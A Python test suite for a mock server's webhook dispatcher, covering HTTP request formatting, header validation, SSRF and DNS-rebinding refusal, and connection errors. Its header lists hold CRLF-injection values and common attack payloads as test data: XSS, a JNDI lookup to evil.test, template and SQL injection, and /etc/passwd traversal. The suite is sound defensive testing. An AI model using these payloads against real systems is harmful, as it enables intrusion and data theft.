"""What the dispatcher sends, and to which address."""

import asyncio
import ssl
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mockserver import __version__
from mockserver.core import address_policy
from mockserver.core.address_policy import AddressPolicy
from mockserver.core.webhook import DeliveryResult
from mockserver.core.webhook_url import TargetRejection
from mockserver.delivery import connection, resolver
from mockserver.delivery.dispatcher import WebhookDispatcher
from mockserver.delivery.resolver import Resolver
from tests.support.receivers import (
    OK_RESPONSE,
    UNUSED_ORIGIN,
    build_delivery_to,
    deliver_to_receiver,
    respond_with,
    serve_receiver,
)


def receive_request(path: str = "/hook", **webhook: Any) -> tuple[str, ...]:
    """Send a webhook; return the lines of the request that the receiver gets, without its port."""
    lines: list[str] = []
    port = 0

    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.readuntil(b"\r\n\r\n")
        length = [int(line[16:]) for line in head.split(b"\r\n") if line[:15] == b"content-length:"]
        text = (head + await reader.readexactly(sum(length))).decode()
        lines.extend(text.replace(str(port), "PORT").split("\r\n"))
        writer.write(OK_RESPONSE)

    async def run() -> DeliveryResult:
        nonlocal port
        async with serve_receiver(handle) as port:
            dispatcher = WebhookDispatcher(f"http://127.0.0.1:{port}")
            return await dispatcher.deliver(build_delivery_to(f"{{origin}}{path}", **webhook))

    result = asyncio.run(run())
    assert (result.status, result.error, result.body) == (200, None, b"ok")
    return tuple(lines)


COMMON = (
    "host: 127.0.0.1:PORT",
    f"user-agent: call-mockserver/{__version__}",
    "accept: */*",
    "accept-encoding: identity",
    "connection: close",
)
JSON = "content-type: application/json"


def test_a_post_sends_its_body_as_json() -> None:
    assert receive_request(body={"name": "Zoë", "n": [1, None], "in": {"a": True}}) == (
        "POST /hook HTTP/1.1",
        *COMMON,
        JSON,
        "content-length: 44",
        "",
        '{"name":"Zoë","n":[1,null],"in":{"a":true}}',
    )


def test_a_post_without_a_body_has_content_length_zero() -> None:
    assert receive_request() == ("POST /hook HTTP/1.1", *COMMON, "content-length: 0", "", "")


def test_a_get_sends_its_query_and_no_body() -> None:
    lines = receive_request("/hook?to=%2B91&name=a b", method="GET")
    assert lines == ("GET /hook?to=%2B91&name=a%20b HTTP/1.1", *COMMON, "", "")


def test_headers_of_the_webhook_override_the_default_headers() -> None:
    headers = {"Content-Type": "application/x-json", "User-Agent": "vendor/1", "X-Sign": "s"}
    assert receive_request(body={}, headers=headers) == (
        "POST /hook HTTP/1.1",
        "host: 127.0.0.1:PORT",
        "user-agent: vendor/1",
        *COMMON[2:],
        "content-type: application/x-json",
        "content-length: 2",
        "x-sign: s",
        "",
        "{}",
    )


UNSENDABLE: tuple[dict[str, str], ...] = (
    {"x": "a\r\ny: z"},
    {"x": "a\ny: z"},
    {"x": "a\n y"},
    {"x": "a\rb"},
    {"x": "a\r\n\r\nGET / HTTP/1.1"},
    {"x": "\r\n"},
    {"x": "a\x00b"},
    {"x": "\x00"},
    {"x": "a\x0bb"},
    {"x": "a\x0cb"},
    {"x": "a\x80b"},
    {"x": "a\x85b"},
    {"x": "a\xa0b"},
    {"x": "a\xffb"},
    {"x": "Zoë"},
    {"x": "\u010a\u010d"},
    {"x": "\u2028"},
    {"x": "\u202e"},
    {"x": "\ufeffa"},
    {"x": "a\x1b[31m"},
    {"x": "a\x7f"},
    {"x": "a\x9b"},
    {"x": "\ud800"},
    {"x": "\U0001f984"},
    {"x": " a"},
    {"x": "a "},
    {"x": "\ta"},
    {"x y": "a"},
    {"x:": "a"},
    {"x\r\ny": "a"},
    {"x\x00": "a"},
    {"x(": "a"},
    {"": "a"},
    {"ü": "a"},
    {"content-length": "1"},
    {"content-length": "99"},
    {"content-length": "-1"},
    {"content-length": "x"},
    {"transfer-encoding": "gzip"},
    {"host": "a\r\nb"},
)
SENDABLE = (
    "",
    "a  b",
    "a\tb",
    "a,b",
    'a; b="c\\""',
    "(a)",
    "a: b",
    "\\r\\nx: y",
    "%0d%0ax: y",
    "=?utf-8?q?=0d=0a?=",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.test/x}",
    "{{7*7}}",
    "'; drop table calls; --",
    "../../etc/passwd",
    "HTTP/1.1 200 OK",
    "a" * 8_000,
)


def test_at_least_forty_header_values_are_tested() -> None:
    assert len(UNSENDABLE) + len(SENDABLE) >= 40


@pytest.mark.parametrize("headers", UNSENDABLE)
def test_an_unsendable_header_gives_a_protocol_error(headers: dict[str, str]) -> None:
    result = deliver_to_receiver(respond_with(OK_RESPONSE), headers=headers, body={"a": 1})
    assert result == DeliveryResult(status=None, error="protocol")


@pytest.mark.parametrize("value", SENDABLE)
def test_a_header_value_is_sent_unchanged_as_one_header(value: str) -> None:
    lines = receive_request(headers={"x": value}, body={})
    assert [line for line in lines if line.startswith("x:")] == [f"x: {value}"]
    assert len(lines) == len(receive_request(headers={"x": "a"}, body={}))


@pytest.mark.parametrize("method", ["", "A B", "GET /x HTTP/1.1\r\n", "Ü", "CONNECT"])
def test_a_method_that_cannot_be_sent_gives_a_protocol_error(method: str) -> None:
    assert deliver_to_receiver(
        respond_with(b"HTTP/1.1 200 OK\r\n\r\n"), method=method
    ) == DeliveryResult(status=None, error="protocol")


def test_a_body_that_cannot_be_encoded_gives_a_protocol_error() -> None:
    assert deliver_to_receiver(respond_with(OK_RESPONSE), body={"a": "\ud800"}) == DeliveryResult(
        status=None, error="protocol"
    )


@pytest.mark.parametrize(
    ("url", "error", "reason"),
    [
        ("", "protocol", "the scheme of the URL is neither http nor https"),
        ("file:///etc/passwd", "protocol", "the scheme of the URL is neither http nor https"),
        ("http://a:99999/", "protocol", "the URL cannot be read"),
        (
            "http://u u:p@127.0.0.1/",
            "protocol",
            "the user-info of the URL has a character that must be percent-encoded",
        ),
        (
            "http://169.254.169.254/",
            "refused-target",
            "169.254.169.254 (metadata) is never a target",
        ),
        (
            "https://8.8.8.8/",
            "refused-target",
            "8.8.8.8 (public) is not among the --webhook-targets",
        ),
        ("http://nosuch.test/", "dns", "no address of nosuch.test was found"),
    ],
)
def test_a_rejected_target_gives_its_error_and_reason(
    url: str, error: str, reason: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(resolver, "getaddrinfo", lambda *_, **__: [])
    result = asyncio.run(WebhookDispatcher(UNUSED_ORIGIN).deliver(build_delivery_to(url)))
    assert result.replace(duration_ms=0) == DeliveryResult(status=None, error=error, reason=reason)


class FailingConnector:
    """Stands for `open_connection`: records the targets, and raises the next outcome."""

    def __init__(self, *outcomes: Exception) -> None:
        self.outcomes = list(outcomes)
        self.targets: list[tuple[str, int, str | None]] = []

    async def __call__(
        self, address: tuple[str, int], context: object, name: str | None, _: object
    ) -> connection.Connection:
        assert (context is None) == (name is None)
        self.targets.append((*address, name))
        raise self.outcomes.pop(0) if self.outcomes else ConnectionRefusedError


@pytest.mark.parametrize(
    ("url", "outcomes", "expected"),
    [
        ("http://localhost:1/", (), (["127.0.0.1", "::1"], "connect")),
        ("http://localhost:1/", (OSError(),), (["127.0.0.1", "::1"], "connect")),
        (
            "http://localhost:1/",
            (OSError(), ConnectionResetError()),
            (["127.0.0.1", "::1"], "reset"),
        ),
        ("https://localhost:1/", (ssl.SSLError(),), (["127.0.0.1"], "tls")),
        ("https://localhost:1/", (ConnectionResetError(),), (["127.0.0.1"], "tls")),
        ("https://localhost:1/", (ConnectionAbortedError(),), (["127.0.0.1"], "tls")),
        ("https://127.0.0.1:1/", (ssl.SSLCertVerificationError(),), (["127.0.0.1"], "tls")),
        ("http://127.0.0.1:1/", (TimeoutError(),), (["127.0.0.1"], "timeout")),
        ("http://10.0.0.1:1/", (OSError(),), (["10.0.0.1"], "connect")),
        ("http://10.0.0.1:1/", (BrokenPipeError(),), (["10.0.0.1"], "reset")),
        ("http://10.0.0.1:1/", (UnicodeError(),), (["10.0.0.1"], "protocol")),
    ],
)
def test_each_failure_to_connect_gives_its_error(
    url: str,
    outcomes: tuple[Exception, ...],
    expected: tuple[list[str], str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    connector = FailingConnector(*outcomes)
    monkeypatch.setattr(connection, "open_connection", connector)
    result = asyncio.run(WebhookDispatcher(UNUSED_ORIGIN).deliver(build_delivery_to(url)))
    assert ([address for address, *_ in connector.targets], result.error) == expected


ADDRESSES = st.one_of(
    st.ip_addresses().map(str), st.sampled_from(["127.0.0.1", "10.0.0.7", "ff02::1"])
)


ALLOW = st.sampled_from([("loopback", "private"), ("loopback", "private", "public"), ("10.0.0.7",)])


@given(st.lists(ADDRESSES, max_size=4), st.lists(ADDRESSES, max_size=4), ALLOW)
@settings(max_examples=100, deadline=None)
def test_only_the_addresses_that_were_checked_are_connected(
    resolved: list[str], later: list[str], allow: tuple[str, ...]
) -> None:
    """Even if the name resolves to other addresses after the check (DNS rebinding)."""
    lookups = iter((resolved, later, later))
    connector = FailingConnector()
    policy = AddressPolicy(allow=allow)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(resolver, "resolve_blocking", lambda _: tuple(next(lookups)))
        patch.setattr(Resolver, "resolve", resolve_inline)
        patch.setattr(connection, "open_connection", connector)
        result = asyncio.run(
            WebhookDispatcher(UNUSED_ORIGIN, policy).deliver(
                build_delivery_to("https://name.test:8443/")
            )
        )
    chosen = (
        address_policy.filter_addresses(tuple(resolved), frozenset({"name.test"}), policy.allow)
        if resolved
        else ()
    )
    expected = () if isinstance(chosen, TargetRejection) else chosen
    assert connector.targets == [(address, 8443, "name.test") for address in expected]
    assert (result.error == "connect") == bool(expected)


async def resolve_inline(_: Resolver, name: str) -> tuple[str, ...]:
    """Resolve without a thread, for many examples."""
    return resolver.resolve_blocking(name)


def test_proxies_and_netrc_of_the_environment_are_ignored(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    received: list[bytes] = []

    async def record(reader: asyncio.StreamReader, _writer: asyncio.StreamWriter) -> None:
        received.append(await reader.read(1))

    async def run() -> tuple[str, ...]:
        async with serve_receiver(record) as port:
            for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"):
                for variable in (name, name.lower()):
                    monkeypatch.setenv(variable, f"http://127.0.0.1:{port}")
            return await asyncio.to_thread(receive_request)

    netrc = tmp_path / "netrc"
    netrc.write_text("machine 127.0.0.1 login trap password trap\n")
    monkeypatch.setenv("NETRC", str(netrc))
    monkeypatch.delenv("NO_PROXY", raising=False)
    monkeypatch.delenv("no_proxy", raising=False)
    lines = asyncio.run(run())
    assert (lines, received) == (("POST /hook HTTP/1.1", *COMMON, "content-length: 0", "", ""), [])
